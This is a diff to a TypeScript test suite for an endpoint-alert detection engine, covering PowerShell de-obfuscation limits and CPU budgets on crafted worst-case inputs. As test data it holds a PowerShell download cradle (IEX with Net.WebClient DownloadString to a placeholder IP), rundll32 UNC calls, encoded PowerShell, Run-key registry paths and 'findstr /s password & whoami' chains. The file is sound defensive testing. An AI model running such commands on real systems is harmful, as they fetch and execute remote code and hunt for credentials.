@@ -702,14 +702,84 @@ describe('PowerShell decoding and de-obfuscation', () => {
     );
   });
 
-  it('bounded: a decompression bomb and a huge obfuscated script cost little', () => {
+  it('bounded: a decompression bomb inflates to at most 256 KiB', () => {
     const bomb = deflateRawSync(Buffer.alloc(50 * 1024 * 1024, 0x41)).toString('base64');
-    const t0 = performance.now();
     const out = decodedForms([`[IO.Compression.DeflateStream] [Convert]::FromBase64String('${bomb}')`]);
+    expect(out.length).toBeGreaterThan(0);
     expect(out.every((d) => d.length <= 256 * 1024)).toBe(true);
-    const huge = `${'[char]65+'.repeat(6000)}'x'`;
-    const script = endpoint({ script: { text: huge.slice(0, 60_000) } });
-    run(script);
-    expect(performance.now() - t0).toBeLessThan(5_000);
+    // A payload padded past the limit is still read up to it: padding does not hide the cradle.
+    const padded = deflateRawSync(
+      Buffer.from(
+        `IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/a')${' '.repeat(1_000_000)}`,
+      ),
+    ).toString('base64');
+    const forms = decodedForms([`[IO.Compression.DeflateStream] [Convert]::FromBase64String('${padded}')`]);
+    expect(forms.some((f) => f.startsWith('IEX (New-Object Net.WebClient).DownloadString('))).toBe(true);
+  });
+});
+
+/**
+ * Bounded work on the signals this file's rules read: the worst values we can construct at the
+ * largest a signal holds (64 KiB), each costing at most a bounded multiple of a plain endpoint
+ * alert's whole verdict, measured in the same run (a ratio: absolute times move with load).
+ */
+describe('endpoint knowledge CPU budget', () => {
+  const N = 65_536;
+  const fill = (unit: string, prefix = '') =>
+    prefix + unit.repeat(Math.ceil((N - prefix.length) / unit.length)).slice(0, N - prefix.length);
+  const plain = proc(`${SYS}cmd.exe`, 'C:\\Windows\\explorer.exe', 'cmd.exe /c dir C:\\Users');
+  const hostile: Array<[string, NormalizedAlert]> = [
+    [
+      'rundll32 with UNC arguments, repeated',
+      proc(`${SYS}rundll32.exe`, `${SYS}cmd.exe`, fill('rundll32.exe \\\\a ')),
+    ],
+    ['char codes', endpoint({ script: { text: fill('[char]65+') } })],
+    ['format operators', endpoint({ script: { text: fill("'{0}{1}' -f 'a',") } })],
+    ['string concatenation', endpoint({ script: { text: fill("'a'+") } })],
+    [
+      'base64 after -enc',
+      proc(`${SYS}WindowsPowerShell\\v1.0\\powershell.exe`, `${SYS}cmd.exe`, fill('A', 'powershell -enc ')),
+    ],
+    [
+      'compressed stream marker and base64',
+      endpoint({ script: { text: fill('A', "DeflateStream FromBase64String('") } }),
+    ],
+    [
+      'path separators',
+      endpoint({ process: { image: fill('\\a', 'c:'), command_line: fill('\\\\', 'c:') } }),
+    ],
+    [
+      'registry key and data',
+      endpoint({ registry: { key: fill('\\currentversion\\run'), data: fill('\\users\\') } }),
+    ],
+    [
+      'discovery words chained',
+      proc(`${SYS}cmd.exe`, `${SYS}cmd.exe`, fill('findstr /s password & whoami & ')),
+    ],
+  ];
+  const cpuPerCall = (alert: NormalizedAlert, calls: number) => {
+    const rounds: number[] = [];
+    for (let r = 0; r < 5; r++) {
+      const t0 = process.cpuUsage();
+      for (let i = 0; i < calls; i++) verdictOf(alert);
+      const d = process.cpuUsage(t0);
+      rounds.push((d.user + d.system) / calls);
+    }
+    return rounds.sort((a, b) => a - b)[2]!;
+  };
+
+  it('the worst signal values stay within a bounded multiple of a plain endpoint alert', {
+    timeout: 120_000,
+  }, () => {
+    verdictOf(plain);
+    const base = cpuPerCall(plain, 100);
+    const ratios = hostile.map(([label, alert]) => ({
+      label,
+      ratio: Math.round(cpuPerCall(alert, 2) / base),
+    }));
+    console.info(`plain endpoint alert: ${Math.round(base)} µs CPU`, ratios);
+    // A plain endpoint alert costs 1-4 ms of CPU on the shared CI cores; 100x bounds the worst
+    // signal value at a tenth to half a second.
+    expect(ratios.filter((r) => r.ratio > 100)).toEqual([]);
   });
 });
